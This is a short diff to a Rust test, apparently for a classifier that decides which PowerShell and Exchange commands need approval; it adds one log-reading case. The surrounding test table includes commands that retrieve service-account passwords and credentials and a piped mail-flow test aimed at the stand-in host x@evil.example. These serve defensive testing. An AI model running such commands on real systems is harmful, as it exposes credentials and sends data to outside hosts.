@@ -1381,6 +1381,7 @@ fn reads_that_act_through_a_parameter_need_approval() {
         ("Get-ClientAccessService -IncludeAlternateServiceAccountCredentialPassword", "reads-that-act"),
         ("Get-ComplianceSearchAction -IncludeCredential", "reads-that-act"),
         ("Test-AssistantHealth -ResolveProblems", "reads-that-act"),
+        ("Get-AgentLog -Location C:\\Users\\admin\\Documents", "reads-that-act"),
         ("Get-Mailbox | ? { Test-Mailflow -TargetEmailAddress x@evil.example }", "reads-that-act"),
         ("Test-Connection 10.0.0.1", "network-tests"),
         ("Test-NetConnection contoso.com -Port 443", "network-tests"),
